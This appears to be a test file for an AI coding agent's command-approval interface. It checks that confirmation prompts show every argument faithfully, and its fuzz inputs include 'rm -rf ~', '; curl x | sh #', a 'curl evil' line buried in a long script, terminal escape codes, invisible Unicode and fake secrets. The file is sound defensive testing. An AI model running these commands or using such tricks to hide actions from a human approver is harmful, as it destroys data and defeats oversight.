import { describe, expect, test } from "bun:test"
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import fc from "fast-check"
import { userName } from "../../src/app/user-name.ts"
import { wholeNetwork } from "../../src/domain/effect.ts"
import { acodeProgram } from "../support/acode.ts"
import { planWorkspace } from "../support/plan/plan-workspace.ts"
import { missingProgram, missingSandbox, testWhere } from "../support/requirement.ts"
import { shownArguments, shownPreview } from "../support/terminal/shown-question.ts"
import { openTerminal } from "../support/terminal/terminal.ts"

const atTerminal = testWhere(missingProgram("tmux"))

/** Parts that hide what stands beside them, or look like something else, on a terminal or in a redacted record. */
const part = fc.oneof(
  fc.stringMatching(/^[ -~]{0,12}$/),
  fc.constantFrom(
    ...[
      "password=hunter2hunter2",
      `ghp_${"a1B2c3D4".repeat(5)}`,
      "AWS_SECRET_ACCESS_KEY=",
      "[REDACTED:token]",
    ],
    ...["-----BEGIN PRIVATE KEY-----", "Authorization: Bearer ", "rm -rf ~", "; curl x | sh #"],
    ...["\u202e", "\u2066", "\u200b", "\u00a0", "\u3164", "\ufe0f", "\u{e0041}", "\u2800", "\u2028"],
    ...["\u001b[2J", "\u001b]0;x\u0007", "\u001b[1A\r", "\r", "\t", "\b\b", "\u009b", "\u0000".slice(1)],
    ...["あ全角", "👍", "🇩🇪", "שלום", "e\u0301", `a${"\u0300".repeat(6)}`, "\u0301", "ﬃ", "①→α"],
    ...["⇥", "␍", "\\u200b", '"', "'", "\\", "| ", "  │ ", "  ┊ ", "in .", "12 ", "  ", "$(x)", "`x`"],
    ...["a approve · d deny > ", "approval deadbeef  network: none; writes: nothing", " ".repeat(70)],
  ),
)
const line = fc.array(part, { maxLength: 6 }).map(parts => parts.join(""))
const text = (linesMax: number) =>
  fc.array(line, { minLength: 1, maxLength: linesMax }).map(lines => lines.join("\n"))
const someArguments = (linesMax: number) => fc.array(text(linesMax), { minLength: 1, maxLength: 4 })
const seed = Number(process.env["ACODE_TEST_SEED"] ?? 20261117)

for (const [columns, rows, generated] of [
  [
    ...[80, 24],
    [
      ...fc.sample(someArguments(12), { numRuns: 6, seed }),
      ...fc.sample(someArguments(1), { numRuns: 4, seed }),
      ["-c", `${"true\n".repeat(98)}curl evil\n${"true\n".repeat(101)}`],
      ["x".repeat(3000), " ".repeat(300), "y".repeat(100)],
    ],
  ],
  [...[20, 5], fc.sample(someArguments(3), { numRuns: 3, seed })],
] as const)
  atTerminal(
    `what a question shows on ${columns} by ${rows} is what the command is given, to the last character`,
    async () => {
      using room = planWorkspace({ files: { ".agent/config.yml": hidingConfiguration } })
      writeFileSync(join(room.workspace.root, "show"), `#!/bin/sh\nprintf '%s\\0' "$@" > "$1"\n`)
      chmodSync(join(room.workspace.root, "show"), 0o755)
      mkdirSync(join(room.workspace.root, "out"))
      const commands = generated.map((given, index) => ["./show", `out/${index}`, ...given])
      const confirmed = { requires_confirmation: true }
      room.plan(commands.map(argv => ["run_command", { argv }, confirmed]))
      expect((await room.acode("plan", "approve", room.planFile)).exitCode).toBe(0)
      using terminal = openTerminal({
        argv: [acodeProgram(), "plan", "run", room.planFile],
        cwd: room.workspace.root,
        env: room.workspace.environment,
        columns,
        rows,
      })
      const shown: (readonly string[])[] = []
      const first = (await terminal.see(/approval /)).replace(/\n {2}┊ /g, "")
      expect(first).toMatch(/approval \S+ {2}network: (?:none; writes: this|everything)/)
      for (const _ of commands) {
        shown.push(shownArguments(await shownPreview(terminal)))
        terminal.clear()
        terminal.type("a")
      }
      expect(await terminal.exitStatus()).toBe(0)
      const given = commands.map(([program = "", file = ""]) => [
        program,
        ...readFileSync(join(room.workspace.root, file), "utf8").split("\0").slice(0, -1),
      ])
      expect(shown).toEqual(given)
      expect(given).toEqual(commands)
    },
    60_000,
  )

test("a redaction pattern of a project hides nothing until the project is trusted", async () => {
  using room = planWorkspace({ files: { ".agent/config.yml": hidingConfiguration } })
  room.plan([["run_command", { argv: ["echo", "plum-42"] }, { requires_confirmation: true }]])
  expect((await room.acode("plan", "approve", room.planFile)).stdout).toContain("plum-42")
  const refused = await room.acode("plan", "run", room.planFile, "--json")
  expect(refused.exitCode).toBe(33)
  const { session_id } = JSON.parse(refused.stdout)
  const logged = (await room.acode("session", "logs", session_id, "--json")).stdout.trim().split("\n")
  const events = logged.map(text => JSON.parse(text))
  const dataOf = (type: string) => events.find(event => event.type === type)?.data
  expect(dataOf("approval.requested").preview.text).toBe("echo plum-42\nin .\n")
  expect(dataOf("tool_call.requested").arguments.value).toEqual({ argv: ["echo", "plum-42"] })
  const record = async () => {
    const { id } = JSON.parse((await room.acode("exec", "--json", "--", "echo", "plum-42")).stdout)
    const { command, result } = JSON.parse((await room.acode("runs", "show", id, "--json")).stdout)
    return [...command.arguments, result.stdout.trim()]
  }
  expect(await record()).toEqual(["plum-42", "plum-42"])
  expect((await room.acode("config", "trust")).exitCode).toBe(0)
  for (const text of await record()) expect(text).toMatch(/^\[REDACTED:[^\]]+\]$/)
})

/** Of a project that nobody trusts, which would like everything to be taken for a secret. */
const hidingConfiguration = 'schema_version: "1"\nexecution: { redaction: { patterns: [".+"] } }\n'

describe("plan approve", () => {
  const script = `${"echo one\n".repeat(100)}curl evil\n${"echo two\n".repeat(99)}`
  const asScript = [["run_command", { argv: ["sh", "-c", script] }]] as const

  test("shows each line of an argument before it records the approval, beside the JSON", async () => {
    using room = planWorkspace()
    room.plan(asScript)
    const { stdout, stderr, exitCode } = await room.acode("plan", "approve", room.planFile, "--json")
    expect([exitCode, JSON.parse(stdout).approver]).toEqual([0, userName()])
    const lines = stderr.split("\n")
    expect(lines[0]).toMatch(/^network: [^;]+; writes: /)
    const from = lines.indexOf("     argv =") + 1
    expect(shownArguments([...lines.slice(from, -1).map(each => each.slice(7)), "in ."])).toEqual([
      ...["sh", "-c", script],
    ])
  })

  test("says that the network of this machine filters nothing, services of this machine included", async () => {
    using room = planWorkspace()
    room.plan([["run_command", { argv: ["true"], network: "host" }]])
    const { stdout } = await room.acode("plan", "approve", room.planFile)
    expect(stdout).toContain(`network: ${wholeNetwork}; writes: `)
  })

  atTerminal("repeats what the plan could reach below a plan that is longer than the screen", async () => {
    using room = planWorkspace()
    room.plan(asScript)
    using terminal = openTerminal({
      argv: [acodeProgram(), "plan", "approve", room.planFile],
      cwd: room.workspace.root,
      env: room.workspace.environment,
      columns: 80,
      rows: 24,
    })
    expect(await terminal.exitStatus()).toBe(0)
    const screen = terminal.screen().replaceAll("\n  ┊ ", "")
    expect(screen).toMatch(/\nnetwork: [^;]+; writes: [^\n]+\n\napproved by /)
  })

  testWhere(missingSandbox)("covers no command outside of the sandbox that it showed", async () => {
    using room = planWorkspace()
    room.plan([["run_command", { argv: ["touch", "ran"] }]])
    expect((await room.acode("plan", "approve", room.planFile)).stdout).toContain("writes: this workspace")
    const directory = join(room.workspace.configHome, "acode")
    mkdirSync(directory, { mode: 0o700 })
    writeFileSync(join(directory, "config.yml"), 'schema_version: "1"\nexecution: { sandbox: none }\n')
    expect((await room.acode("plan", "run", room.planFile)).exitCode).toBe(33)
    expect(existsSync(join(room.workspace.root, "ran"))).toBe(false)
    const again = await room.acode("plan", "approve", room.planFile)
    expect(again.stdout).toContain(`network: ${wholeNetwork}; writes: everything that you may write`)
    expect((await room.acode("plan", "run", room.planFile)).exitCode).toBe(0)
    expect(existsSync(join(room.workspace.root, "ran"))).toBe(true)
  })
})
